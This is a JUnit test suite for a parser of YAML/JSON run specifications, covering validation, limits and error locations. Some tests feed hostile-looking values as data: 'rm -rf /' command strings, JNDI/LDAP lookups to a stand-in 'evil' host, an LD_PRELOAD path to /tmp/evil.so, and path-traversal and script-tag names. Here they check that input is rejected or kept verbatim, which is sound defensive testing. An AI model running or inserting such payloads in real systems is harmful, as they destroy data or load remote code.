package dev.runplane.runs.spec;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.runplane.runs.RunType;
import dev.runplane.runs.spec.RunSpec.Replicas;
import dev.runplane.runs.spec.RunSpec.Resources;
import dev.runplane.runs.spec.RunSpec.Retry;
import dev.runplane.runs.spec.RunSpec.RetryOn;
import dev.runplane.runs.spec.RunSpecException.FieldError;
import java.math.BigDecimal;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class RunSpecParserTest {

    private static final RunSpecParser PARSER = new RunSpecParser();

    private static final String EXAMPLE = """
            type: service            # task | service
            name: web
            commands:
              - python3 -m http.server $PORT
            env:
              GREETING: hello
            working_dir: /tmp
            replicas: 2
            port: 8000
            resources: {cpu: 1, memory: 512MB, gpu: 0}
            retry: {on: [error, lost], limit: 3}
            max_duration: 2h
            stop_grace_period: 10s
            backend: local
            """;

    private static final Retry ALWAYS = new Retry(Set.of(RetryOn.ERROR, RetryOn.LOST), 3);

    // ---- whole documents

    @Test
    void theExampleSpecParsesToTheExpectedRecord() {
        assertThat(PARSER.parse(EXAMPLE)).isEqualTo(new RunSpec(RunType.SERVICE, "web",
                List.of("python3 -m http.server $PORT"), Map.of("GREETING", "hello"), "/tmp", new Replicas(2, 2),
                8000, new Resources(BigDecimal.ONE, 512_000_000L, 0), ALWAYS, Duration.ofHours(2),
                Duration.ofSeconds(10), "local"));
    }

    @Test
    void jsonDocumentsAreAccepted() {
        String json = """
                {"type": "service", "name": "web", "commands": ["python3 -m http.server $PORT"],
                 "env": {"GREETING": "hello"}, "working_dir": "/tmp", "replicas": 2, "port": 8000,
                 "resources": {"cpu": 1, "memory": "512MB", "gpu": 0}, "retry": {"on": ["error", "lost"], "limit": 3},
                 "max_duration": "2h", "stop_grace_period": "10s", "backend": "local"}
                """;
        assertThat(PARSER.parse(json)).isEqualTo(PARSER.parse(EXAMPLE));
    }

    @Test
    void aMinimalTaskGetsEveryDefault() {
        RunSpec spec = PARSER.parse(task());
        assertThat(spec.type()).isEqualTo(RunType.TASK);
        assertThat(spec.name()).isEqualTo("t");
        assertThat(spec.commands()).containsExactly("echo hi");
        assertThat(spec.env()).isEmpty();
        assertThat(spec.workingDir()).isNull();
        assertThat(spec.replicas()).isEqualTo(new Replicas(1, 1));
        assertThat(spec.port()).isNull();
        assertThat(spec.resources()).isEqualTo(new Resources(BigDecimal.ONE, 512_000_000L, 0));
        assertThat(spec.retry()).isEqualTo(Retry.NONE);
        assertThat(spec.maxDuration()).isNull();
        assertThat(spec.stopGracePeriod()).isEqualTo(Duration.ofSeconds(10));
        assertThat(spec.backend()).isEqualTo("local");
    }

    @Test
    void aServiceWithoutPortHasNoPort() {
        assertThat(PARSER.parse(task("type: service")).port()).isNull();
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "   \n\t\n", "# only a comment\n"})
    void emptyTextIsADocumentError(String text) {
        FieldError error = onlyError(text);
        assertThat(error.field()).isEqualTo("(document)");
        assertThat(error.message()).contains("empty", "type, name, commands");
    }

    @Test
    void nullTextIsADocumentError() {
        assertThat(onlyError(null).field()).isEqualTo("(document)");
    }

    @ParameterizedTest
    @ValueSource(strings = {"- type: task\n- name: t\n", "hello", "42", "null", "[1, 2]"})
    void theTopLevelMustBeAMapping(String text) {
        FieldError error = onlyError(text);
        assertThat(error.field()).isEqualTo("(document)");
        assertThat(error.message()).contains("must be a mapping with keys type, name, commands");
    }

    @Test
    void unknownKeysAreNamedWithTheAllowedKeys() {
        FieldError error = onlyError(task("replica: 2"));
        assertThat(error.field()).isEqualTo("replica");
        assertThat(error.message()).contains("allowed keys", "replicas", "working_dir", "stop_grace_period");
    }

    @Test
    void everyErrorIsReportedTogether() {
        List<FieldError> errors = errors("""
                type: job
                name: Web Server
                commands: echo hi
                replicas: -1
                resources: {memory: lots}
                colour: blue
                """);
        assertThat(errors).extracting(FieldError::field)
                .containsExactlyInAnyOrder("type", "name", "commands", "replicas", "resources.memory", "colour");
        assertThat(new RunSpecException(errors).getMessage()).contains("type: ", "; name: ");
    }

    @Test
    void eachErrorCarriesTheLineAndColumnOfItsField() {
        List<FieldError> errors = errors("""
                type: job
                name: web
                commands:
                  - echo hi
                  - 42
                resources:
                  memory: lots
                colour: blue
                """);
        Map<String, String> places = errors.stream().collect(Collectors.toMap(FieldError::field,
                e -> e.line() + ":" + e.column()));
        assertThat(places).containsEntry("type", "1:1").containsEntry("commands[1]", "5:5")
                .containsEntry("resources.memory", "7:3").containsEntry("colour", "8:1");
    }

    @Test
    void aMissingFieldIsPlacedAtItsParentOrNowhere() {
        List<FieldError> errors = errors("name: web\ncommands: [x]\nretry: {limit: -1}\n");
        assertThat(errors).filteredOn(e -> e.field().equals("type")).singleElement()
                .satisfies(e -> assertThat(e.line()).isNull());
        assertThat(errors).filteredOn(e -> e.field().startsWith("retry")).singleElement()
                .satisfies(e -> assertThat(e.line()).isEqualTo(3));
    }

    @Test
    void syntaxErrorsAndJsonErrorsCarryTheirPlace() {
        FieldError yaml = onlyError("type: task\nname: [unclosed\n");
        assertThat(yaml.field()).isEqualTo("(document)");
        assertThat(yaml.line()).isNotNull().isGreaterThanOrEqualTo(2);
        FieldError json = onlyError("{\"type\": \"task\",\n \"name\": \"ok\",\n \"commands\": 5}");
        assertThat(json.field()).isEqualTo("commands");
        assertThat(json.line() + ":" + json.column()).isEqualTo("3:2");
    }

    @Test
    void thousandsOfErrorsAreCappedWithANote() {
        String text = task() + IntStream.range(0, 500).mapToObj(i -> "unknown" + i + ": 1")
                .collect(Collectors.joining("\n"));
        List<FieldError> errors = errors(text);
        assertThat(errors).hasSize(SpecErrors.MAX_ERRORS + 1);
        assertThat(errors.getLast().message()).contains("more than 100 errors");
    }

    @Test
    void duplicateKeysAreNamed() {
        FieldError error = onlyError("type: task\nname: a\nname: b\ncommands: [x]\n");
        assertThat(error.field()).isEqualTo("name");
        assertThat(error.message()).contains("twice", "line 3");
        assertThat(error.line()).isEqualTo(3);
    }

    @Test
    void duplicateNestedKeysAreNamedWithTheirPath() {
        FieldError error = onlyError(task("env:\n  A: 1\n  B: 2\n  A: 3"));
        assertThat(error.field()).isEqualTo("env.A");
        assertThat(error.message()).contains("once");
    }

    @Test
    void malformedYamlNamesTheLine() {
        FieldError error = onlyError("type: task\nname: t\ncommands: [echo hi\nreplicas: 2\n");
        assertThat(error.field()).isEqualTo("(document)");
        assertThat(error.message()).contains("not valid YAML", "line 4", "column");
    }

    @Test
    void badIndentationNamesTheLine() {
        FieldError error = onlyError("type: task\nname: t\ncommands:\n  - a\n - b\n");
        assertThat(error.field()).isEqualTo("(document)");
        assertThat(error.message()).containsPattern("line \\d+, column \\d+");
    }

    @ParameterizedTest
    @ValueSource(strings = {"[", "{a: ", "- "})
    void nestingTenThousandDeepIsACleanError(String opener) {
        FieldError error = onlyError(opener.repeat(10_000));
        assertThat(error.field()).isEqualTo("(document)");
        assertThat(error.message()).contains("nested more than 64 levels");
    }

    @Test
    void nestingInsideAFieldIsAlsoLimited() {
        FieldError error = onlyError(task("env: " + "[".repeat(10_000) + "]".repeat(10_000)));
        assertThat(error.message()).contains("nested more than 64 levels");
    }

    @Test
    void textOverOneMebibyteIsRejectedBeforeParsing() {
        String text = task() + "# " + "x".repeat(SpecTreeReader.MAX_TEXT_CHARS);
        FieldError error = onlyError(text);
        assertThat(error.field()).isEqualTo("(document)");
        assertThat(error.message()).contains("1 MiB");
    }

    @Test
    void aliasesAreRejectedInsteadOfSilentlyBecomingTheirName() {
        FieldError error = onlyError(task("env:\n  A: &v secret\n  B: *v"));
        assertThat(error.field()).isEqualTo("env.B");
        assertThat(error.message()).contains("alias");
    }

    @Test
    void aSecondDocumentIsRejected() {
        FieldError error = onlyError(task() + "---\ntype: service\n");
        assertThat(error.field()).isEqualTo("(document)");
        assertThat(error.message()).contains("more than one document");
    }

    @Test
    void yamlThatJacksonCannotTurnIntoNumbersIsACleanError() {
        FieldError error = onlyError(task("resources: {cpu: .inf}"));
        assertThat(error.field()).isEqualTo("(document)");
        assertThat(error.message()).contains("line 4", "plain number").doesNotContain("java.");
        FieldError tooLong = onlyError(task("replicas: 1" + "0".repeat(1200)));
        assertThat(tooLong.field()).isEqualTo("(document)");
        assertThat(tooLong.message()).contains("1000");
    }

    // ---- type, name, commands

    @ParameterizedTest
    @ValueSource(strings = {"type: job", "type: TASK", "type: 1", "type: [task]", "type: null"})
    void typeMustBeTaskOrService(String line) {
        FieldError error = onlyError(task(line));
        assertThat(error.field()).isEqualTo("type");
        assertThat(error.message()).contains("task, service");
    }

    @Test
    void missingRequiredFieldsAreEachReported() {
        assertThat(errors("backend: local\n")).extracting(FieldError::field)
                .containsExactly("type", "name", "commands");
        assertThat(errors("backend: local\n")).allSatisfy(e -> assertThat(e.message()).startsWith("is required"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"../../etc/passwd", "a/b", "", "   ", "🚀", "web🚀", "Web", "1web", "-web", "web server",
            "web_1", "<script>"})
    void badNamesAreRejectedWithThePattern(String name) {
        FieldError error = onlyError(task("name: " + quoted(name)));
        assertThat(error.field()).isEqualTo("name");
        assertThat(error.message()).contains("[a-z][a-z0-9-]{0,62}");
    }

    @Test
    void namesAreAtMost63Characters() {
        String longest = "a" + "b".repeat(62);
        assertThat(PARSER.parse(task("name: " + longest)).name()).isEqualTo(longest);
        assertThat(onlyError(task("name: " + longest + "c")).field()).isEqualTo("name");
        FieldError thousand = onlyError(task("name: " + "a".repeat(1000)));
        assertThat(thousand.message()).contains("[a-z][a-z0-9-]{0,62}").hasSizeLessThan(300);
    }

    @Test
    void aNameMustBeAString() {
        assertThat(onlyError(task("name: 42")).message()).contains("[a-z][a-z0-9-]{0,62}", "got 42");
    }

    @Test
    void aSingleCommandStringIsNotAList() {
        FieldError error = onlyError(task("commands: echo hi"));
        assertThat(error.field()).isEqualTo("commands");
        assertThat(error.message()).contains("a non-empty list of strings");
    }

    @Test
    void commandsMustNotBeEmpty() {
        assertThat(onlyError(task("commands: []")).message()).contains("non-empty list", "an empty list");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
            "commands: [echo, \"  \"] | commands[1] | blank",
            "commands: [echo, 42]     | commands[1] | a string",
            "commands: [echo, true]   | commands[1] | a string",
            "commands: [[echo]]       | commands[0] | a string",
            "commands: [echo, null]   | commands[1] | a string",
            "commands: [\"a\\0b\"]    | commands[0] | NUL"})
    void badCommandsAreNamedByIndex(String line, String field, String message) {
        FieldError error = onlyError(task(line));
        assertThat(error.field()).isEqualTo(field);
        assertThat(error.message()).contains(message);
    }

    @Test
    void commandCountAndLengthAreLimited() {
        String many = "commands: [" + "x, ".repeat(100) + "x]";
        assertThat(onlyError(task(many)).message()).contains("101 items", "at most 100");
        assertThat(PARSER.parse(task("commands: ['" + "x".repeat(10_000) + "']")).commands()).hasSize(1);
        FieldError tooLong = onlyError(task("commands: ['" + "x".repeat(10_001) + "']"));
        assertThat(tooLong.field()).isEqualTo("commands[0]");
        assertThat(tooLong.message()).contains("at most 10000");
    }

    @Test
    void commandsAreKeptByteForByte() {
        RunSpec spec = PARSER.parse(task("""
                commands:
                  - '; rm -rf / #'
                  - echo "$(id)" `whoami` ${jndi:ldap://x/a} && exit 3
                  - |
                    for i in 1 2 3; do
                      echo "$i"  \t
                    done
                  - "  leading and trailing spaces  "
                  - "ünïcödé 🚀 \\u00e9"
                """));
        assertThat(spec.commands()).containsExactly(
                "; rm -rf / #",
                "echo \"$(id)\" `whoami` ${jndi:ldap://x/a} && exit 3",
                "for i in 1 2 3; do\n  echo \"$i\"  \t\ndone\n",
                "  leading and trailing spaces  ",
                "ünïcödé 🚀 é");
        assertThatThrownBy(() -> spec.commands().add("x")).isInstanceOf(UnsupportedOperationException.class);
    }

    // ---- env

    @ParameterizedTest
    @ValueSource(strings = {"A=B", "1X", "", "PATH;rm", "A B", "A-B", "Ä", "A\nB"})
    void badEnvNamesAreRejectedWithThePattern(String name) {
        FieldError error = onlyError(task("env: {" + quoted(name) + ": x}"));
        assertThat(error.field()).startsWith("env.").doesNotContain("\n");
        assertThat(error.message()).contains("[A-Za-z_][A-Za-z0-9_]*");
    }

    @Test
    void aTenThousandCharacterEnvNameIsRejectedWithATruncatedField() {
        String name = "A".repeat(10_000);
        FieldError error = onlyError("{\"type\": \"task\", \"name\": \"t\", \"commands\": [\"x\"], \"env\": {\""
                + name + "\": \"x\"}}");
        assertThat(error.field()).startsWith("env.AAAA").endsWith("…").hasSizeLessThan(80);
        assertThat(error.message()).contains("10000 characters", "at most 256");
    }

    @Test
    void aLongEnvNameInYamlNeedsAnExplicitKeyAndIsThenNamed() {
        // YAML caps plain keys at 1024 characters ("not valid YAML"); "? key" lifts the cap
        FieldError error = onlyError(task("env:\n  ? " + "B".repeat(10_000) + "\n  : x"));
        assertThat(error.field()).startsWith("env.BBBB").endsWith("…");
        assertThat(error.message()).contains("at most 256");
        assertThat(onlyError(task("env:\n  " + "B".repeat(10_000) + ": x")).field()).isEqualTo("(document)");
    }

    @Test
    void yamlFlowStyleIsNotMistakenForJson() {
        assertThat(PARSER.parse("{type: task, name: t, commands: [echo hi]}").name()).isEqualTo("t");
        assertThat(onlyError("{\"type\": \"task\", \"type\": \"service\"}").field()).isEqualTo("type");
        assertThat(onlyError("{\"type\": \"task\",\n \"name\": \"t\"\n \"commands\": []}").message())
                .contains("line 3");
    }

    @Test
    void envNamesUpTo256CharactersAreAccepted() {
        String name = "A".repeat(256);
        assertThat(PARSER.parse(task("env: {" + name + ": x}")).env()).containsKey(name);
    }

    @ParameterizedTest
    @ValueSource(strings = {"RUNPLANE_TOKEN", "RUNPLANE_", "PORT"})
    void reservedEnvNamesAreRejected(String name) {
        FieldError error = onlyError(task("env: {" + name + ": x}"));
        assertThat(error.field()).isEqualTo("env." + name);
        assertThat(error.message()).contains("reserved", "RUNPLANE_*", "PORT");
    }

    @Test
    void namesThatOnlyLookReservedAreFine() {
        assertThat(PARSER.parse(task("env: {RUNPLANE: a, port: b, PORTS: c, MY_RUNPLANE_X: d}")).env())
                .containsOnlyKeys("RUNPLANE", "port", "PORTS", "MY_RUNPLANE_X");
    }

    @Test
    void envValuesAreKeptByteForByte() {
        RunSpec spec = PARSER.parse(task("""
                env:
                  SUBST: $(id)
                  TICKS: '`id`'
                  SEMI: a; rm -rf /
                  QUOTES: "she said \\"hi\\" and 'bye'"
                  NEWLINE: "line1\\nline2"
                  JNDI: ${jndi:ldap://evil/a}
                  LD_PRELOAD: /tmp/evil.so
                  EMPTY: ""
                  SPACES: "  padded  "
                  BLOCK: |
                    multi
                    line
                """));
        assertThat(spec.env()).containsExactly(
                Map.entry("SUBST", "$(id)"),
                Map.entry("TICKS", "`id`"),
                Map.entry("SEMI", "a; rm -rf /"),
                Map.entry("QUOTES", "she said \"hi\" and 'bye'"),
                Map.entry("NEWLINE", "line1\nline2"),
                Map.entry("JNDI", "${jndi:ldap://evil/a}"),
                Map.entry("LD_PRELOAD", "/tmp/evil.so"),
                Map.entry("EMPTY", ""),
                Map.entry("SPACES", "  padded  "),
                Map.entry("BLOCK", "multi\nline\n"));
    }

    @Test
    void envKeepsTheOrderWrittenAndCannotBeChanged() {
        List<String> names = IntStream.range(0, 50).mapToObj(i -> "V" + (50 - i)).toList();
        String env = names.stream().map(n -> "  " + n + ": x").collect(Collectors.joining("\n"));
        Map<String, String> parsed = PARSER.parse(task("env:\n" + env)).env();
        assertThat(parsed.keySet()).containsExactlyElementsOf(names);
        assertThatThrownBy(() -> parsed.put("X", "y")).isInstanceOf(UnsupportedOperationException.class);
    }

    @Test
    void yamlNumbersAndBooleansInEnvBecomeTheirText() {
        assertThat(PARSER.parse(task("env: {A: 1, B: true, C: false, D: 1.50, E: -7, F: 0x1F, G: yes, H: '007'}"))
                .env()).containsExactly(Map.entry("A", "1"), Map.entry("B", "true"), Map.entry("C", "false"),
                Map.entry("D", "1.50"), Map.entry("E", "-7"), Map.entry("F", "0x1F"), Map.entry("G", "yes"),
                Map.entry("H", "007"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"null", "[a, b]", "{x: y}"})
    void envValuesThatAreNotScalarsAreRejected(String value) {
        FieldError error = onlyError(task("env: {A: " + value + "}"));
        assertThat(error.field()).isEqualTo("env.A");
        assertThat(error.message()).contains("string, number or boolean");
    }

    @Test
    void envMustBeAMapping() {
        FieldError error = onlyError(task("env: [A=1]"));
        assertThat(error.field()).isEqualTo("env");
        assertThat(error.message()).contains("mapping of NAME: value");
    }

    @Test
    void envSizeIsLimited() {
        String many = IntStream.range(0, 201).mapToObj(i -> "V" + i + ": x").collect(Collectors.joining(", "));
        assertThat(onlyError(task("env: {" + many + "}")).message()).contains("201 variables", "at most 200");
        assertThat(PARSER.parse(task("env: {A: '" + "x".repeat(32 * 1024) + "'}")).env().get("A"))
                .hasSize(32 * 1024);
        FieldError tooLong = onlyError(task("env: {A: '" + "x".repeat(32 * 1024 + 1) + "'}"));
        assertThat(tooLong.field()).isEqualTo("env.A");
        assertThat(tooLong.message()).contains("32 KiB");
        // the limit is in bytes: 11,000 three-byte characters are 33,000 bytes
        assertThat(onlyError(task("env: {A: '" + "€".repeat(11_000) + "'}")).message()).contains("33000 bytes");
    }

    @Test
    void nulInAnEnvValueIsRejected() {
        assertThat(onlyError(task("env: {A: \"a\\0b\"}")).message()).contains("NUL");
    }

    @Test
    void envErrorsDoNotEchoValues() {
        FieldError error = onlyError(task("env: {A: {secret: hunter2}}"));
        assertThat(error.message()).doesNotContain("hunter2");
    }

    // ---- working_dir

    @Test
    void workingDirIsAnAbsolutePath() {
        assertThat(PARSER.parse(task("working_dir: /")).workingDir()).isEqualTo("/");
        assertThat(PARSER.parse(task("working_dir: /srv/my app/../x")).workingDir()).isEqualTo("/srv/my app/../x");
    }

    @ParameterizedTest
    @ValueSource(strings = {"working_dir: tmp", "working_dir: ./x", "working_dir: ''", "working_dir: 1",
            "working_dir: null", "working_dir: \"/tmp\\0x\""})
    void badWorkingDirsAreRejected(String line) {
        FieldError error = onlyError(task(line));
        assertThat(error.field()).isEqualTo("working_dir");
        assertThat(error.message()).contains("absolute path");
    }

    @Test
    void workingDirIsAtMost4096Characters() {
        String longest = "/" + "d".repeat(4095);
        assertThat(PARSER.parse(task("working_dir: " + longest)).workingDir()).isEqualTo(longest);
        assertThat(onlyError(task("working_dir: " + longest + "d")).message()).contains("4096");
    }

    // ---- replicas

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
            "replicas: 0          | 0 | 0",
            "replicas: 1000       | 1000 | 1000",
            "replicas: 1..4       | 1 | 4",
            "replicas: \"0..1000\" | 0 | 1000",
            "replicas: \"3..3\"   | 3 | 3",
            "replicas: 0..0       | 0 | 0"})
    void replicasAreACountOrARange(String line, int min, int max) {
        assertThat(PARSER.parse(task(line)).replicas()).isEqualTo(new Replicas(min, max));
    }

    @Test
    void aJsonRangeIsAString() {
        assertThat(PARSER.parse("{\"type\": \"task\", \"name\": \"t\", \"commands\": [\"x\"], \"replicas\": \"2..5\"}")
                .replicas()).isEqualTo(new Replicas(2, 5));
    }

    @ParameterizedTest
    @ValueSource(strings = {"-1", "1001", "2147483648", "99999999999999999999999", "3.5", "3.0", "null", "'3'",
            "\"3\"", "true", "5..2", "0..1001", "-1..2", "a..b", "1...4", "1..", "[1, 2]", "1e3"})
    void badReplicasAreRejected(String value) {
        FieldError error = onlyError(task("replicas: " + value));
        assertThat(error.field()).isEqualTo("replicas");
        assertThat(error.message()).contains("0 to 1000", "min..max");
    }

    // ---- port

    @Test
    void servicesMayHaveAPort() {
        assertThat(PARSER.parse(task("type: service", "port: 1")).port()).isEqualTo(1);
        assertThat(PARSER.parse(task("type: service", "port: 65535")).port()).isEqualTo(65535);
    }

    @Test
    void tasksMayNotHaveAPort() {
        FieldError error = onlyError(task("port: 8000"));
        assertThat(error.field()).isEqualTo("port");
        assertThat(error.message()).contains("port is only for services");
    }

    @ParameterizedTest
    @ValueSource(strings = {"0", "-1", "65536", "'8000'", "80.5", "null"})
    void badPortsAreRejected(String value) {
        FieldError error = onlyError(task("type: service", "port: " + value));
        assertThat(error.field()).isEqualTo("port");
        assertThat(error.message()).contains("1 to 65535");
    }

    @Test
    void everyReplicaMustGetAPort() {
        assertThat(PARSER.parse(task("type: service", "port: 65534", "replicas: 2")).port()).isEqualTo(65534);
        FieldError error = onlyError(task("type: service", "port: 65535", "replicas: 1..2"));
        assertThat(error.field()).isEqualTo("port");
        assertThat(error.message()).contains("port + i");
    }

    // ---- resources

    @Test
    void resourcesDefaultPerKey() {
        assertThat(PARSER.parse(task("resources: {gpu: 2}")).resources())
                .isEqualTo(new Resources(BigDecimal.ONE, 512_000_000L, 2));
        assertThat(PARSER.parse(task("resources: {}")).resources())
                .isEqualTo(new Resources(BigDecimal.ONE, 512_000_000L, 0));
    }

    @ParameterizedTest
    @CsvSource({"0.5, 0.5", "2, 2", "2.0, 2", "0.001, 0.001", "1024, 1024", "16.50, 16.5", "1e2, 100"})
    void cpuIsAnExactDecimal(String value, String expected) {
        BigDecimal cpu = PARSER.parse(task("resources: {cpu: " + value + "}")).resources().cpu();
        assertThat(cpu).isEqualTo(new BigDecimal(expected));
    }

    @ParameterizedTest
    @ValueSource(strings = {"1e18", "0", "-1", "1025", "1024.001", "'2'", "null", "true", "0.0001", "1e-9"})
    void badCpuIsRejected(String value) {
        FieldError error = onlyError(task("resources: {cpu: " + value + "}"));
        assertThat(error.field()).isEqualTo("resources.cpu");
        assertThat(error.message()).containsAnyOf("greater than 0 and at most 1024", "decimal places");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
            "512MB       | 512000000",
            "2GB         | 2000000000",
            "1GiB        | 1073741824",
            "256Mi       | 268435456",
            "1.5GB       | 1500000000",
            "1.5GiB      | 1610612736",
            "1gb         | 1000000000",
            "1Gb         | 1000000000",
            "2048Ki      | 2097152",
            "1000KB      | 1000000",
            "976.5625KiB | 1000000",
            "1000000B    | 1000000",
            "1048576     | 1048576",
            "\"1048576\" | 1048576",
            "512 MB      | 512000000",
            "1TB         | 1000000000000",
            "1Ti         | 1099511627776",
            "16TiB       | 17592186044416",
            "4tib        | 4398046511104"})
    void memorySizesUseDecimalAndBinaryUnits(String value, long bytes) {
        assertThat(PARSER.parse(task("resources: {memory: " + value + "}")).resources().memoryBytes())
                .isEqualTo(bytes);
    }

    @ParameterizedTest
    @ValueSource(strings = {"999KB", "999999", "'512'", "17TiB", "16.1TiB", "1PB", "lots", "1.5", "-1GB", "1e9",
            "512MBs", "\"1,5GB\"", "512M", "3.5", "true", "null", "[512MB]", "99999999999999999999TB"})
    void badMemoryIsRejectedWithTheAllowedForms(String value) {
        FieldError error = onlyError(task("resources: {memory: " + value + "}"));
        assertThat(error.field()).isEqualTo("resources.memory");
        assertThat(error.message()).containsAnyOf("512MB, 2GB, 1GiB", "between 1MB and 16TiB");
    }

    @ParameterizedTest
    @ValueSource(strings = {"-1", "65", "1.5", "'1'", "null"})
    void badGpuIsRejected(String value) {
        FieldError error = onlyError(task("resources: {gpu: " + value + "}"));
        assertThat(error.field()).isEqualTo("resources.gpu");
        assertThat(error.message()).contains("0 to 64");
    }

    @Test
    void unknownResourceKeysAreNamed() {
        FieldError error = onlyError(task("resources: {cpu: 1, disk: 10GB}"));
        assertThat(error.field()).isEqualTo("resources.disk");
        assertThat(error.message()).contains("cpu, memory, gpu");
    }

    @Test
    void resourcesMustBeAMapping() {
        assertThat(onlyError(task("resources: 4")).message()).contains("mapping with keys cpu, memory, gpu");
    }

    // ---- retry

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
            "retry: true                       | ERROR,LOST | 3",
            "retry: {}                         | ERROR,LOST | 3",
            "retry: {limit: 5}                 | ERROR,LOST | 5",
            "retry: {on: [lost]}               | LOST       | 3",
            "retry: {on: [error, error], limit: 1} | ERROR  | 1",
            "retry: {on: [lost, error], limit: 100} | ERROR,LOST | 100"})
    void retryPolicies(String line, String on, int limit) {
        Set<RetryOn> causes = java.util.Arrays.stream(on.split(",")).map(RetryOn::valueOf)
                .collect(Collectors.toSet());
        assertThat(PARSER.parse(task(line)).retry()).isEqualTo(new Retry(causes, limit));
    }

    @ParameterizedTest
    @ValueSource(strings = {"retry: false", "retry: {limit: 0}", "retry: {on: [error], limit: 0}"})
    void retryCanBeTurnedOff(String line) {
        assertThat(PARSER.parse(task(line)).retry()).isEqualTo(Retry.NONE);
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
            "retry: {on: [crash]}           | retry.on[0] | error, lost",
            "retry: {on: error}             | retry.on    | error, lost",
            "retry: {on: []}                | retry.on    | error, lost",
            "retry: {limit: 101}            | retry.limit | 0 to 100",
            "retry: {limit: -1}             | retry.limit | 0 to 100",
            "retry: {limit: \"3\"}          | retry.limit | 0 to 100",
            "retry: {limit: 3, when: error} | retry.when  | on, limit",
            "retry: 3                       | retry       | true, false",
            "retry: null                    | retry       | true, false"})
    void badRetryIsRejected(String line, String field, String allowed) {
        FieldError error = onlyError(task(line));
        assertThat(error.field()).isEqualTo(field);
        assertThat(error.message()).contains(allowed);
    }

    // ---- durations

    @ParameterizedTest
    @CsvSource({"90s, PT1M30S", "30m, PT30M", "2h, PT2H", "1d, PT24H", "1h30m, PT1H30M", "500ms, PT0.5S",
            "1d2h3m4s5ms, PT26H3M4.005S", "1s500ms, PT1.5S", "365d, PT8760H", "60, PT1M", "1, PT1S",
            "0000001m, PT1M"})
    void maxDurationSyntax(String value, Duration expected) {
        assertThat(PARSER.parse(task("max_duration: " + value)).maxDuration()).isEqualTo(expected);
    }

    @ParameterizedTest
    @ValueSource(strings = {"off", "unlimited"})
    void maxDurationCanBeOff(String value) {
        assertThat(PARSER.parse(task("max_duration: " + value)).maxDuration()).isNull();
    }

    @ParameterizedTest
    @ValueSource(strings = {"0s", "0", "366d", "8761h", "31536001", "30m1h", "1h1h", "1.5h", "-5s", "-5", "1H",
            "90 s", "1h 30m", "''", "s", "1w", "P1D", "null", "true", "9999999999d", "99999999999999999999", "OFF"})
    void badMaxDurationIsRejected(String value) {
        FieldError error = onlyError(task("max_duration: " + value));
        assertThat(error.field()).isEqualTo("max_duration");
        assertThat(error.message()).containsAnyOf("90s, 30m, 2h", "more than 0s and at most 365d");
    }

    @Test
    void maxDurationFormatErrorsMentionOff() {
        assertThat(onlyError(task("max_duration: forever")).message()).contains("off or unlimited");
    }

    @ParameterizedTest
    @CsvSource({"0, PT0S", "0s, PT0S", "30s, PT30S", "1h, PT1H", "59m59s999ms, PT59M59.999S", "3600, PT1H"})
    void stopGracePeriodMayBeZeroToAnHour(String value, Duration expected) {
        assertThat(PARSER.parse(task("stop_grace_period: " + value)).stopGracePeriod()).isEqualTo(expected);
    }

    @ParameterizedTest
    @ValueSource(strings = {"1h1ms", "2h", "3601", "off", "-1", "null"})
    void badStopGracePeriodIsRejected(String value) {
        FieldError error = onlyError(task("stop_grace_period: " + value));
        assertThat(error.field()).isEqualTo("stop_grace_period");
        assertThat(error.message()).containsAnyOf("from 0s to 1h", "90s, 30m, 2h");
    }

    // ---- backend

    @Test
    void backendIsLocalOrSlurm() {
        assertThat(PARSER.parse(task("backend: slurm")).backend()).isEqualTo("slurm");
        FieldError error = onlyError(task("backend: kubernetes"));
        assertThat(error.field()).isEqualTo("backend");
        assertThat(error.message()).contains("local, slurm");
    }

    // ---- helpers

    /** A valid minimal task, with {@code lines} replacing or adding top-level keys. */
    private static String task(String... lines) {
        Map<String, String> fields = new LinkedHashMap<>();
        fields.put("type", "type: task");
        fields.put("name", "name: t");
        fields.put("commands", "commands: [echo hi]");
        for (String line : lines) {
            fields.put(line.substring(0, line.indexOf(':')), line);
        }
        return String.join("\n", fields.values()) + "\n";
    }

    /** A YAML double-quoted scalar, so that any test string survives as written. */
    private static String quoted(String text) {
        return "\"" + text.replace("\\", "\\\\").replace("\"", "\\\"").replace("\n", "\\n") + "\"";
    }

    private static List<FieldError> errors(String text) {
        try {
            PARSER.parse(text);
        } catch (RunSpecException e) {
            assertThat(e.errors()).isNotEmpty();
            // the parser's last-resort net turns its own bugs into this message; no test input should reach it
            assertThat(e.getMessage()).doesNotContainPattern("cannot be read \\(\\w+\\)");
            return e.errors();
        }
        throw new AssertionError("expected a RunSpecException for:\n" + text);
    }

    private static FieldError onlyError(String text) {
        List<FieldError> errors = errors(text);
        String shown = text == null || text.length() <= 200 ? text : text.substring(0, 200) + "…";
        assertThat(errors).as("errors for %s", shown)
                .hasSize(1);
        return errors.getFirst();
    }
}
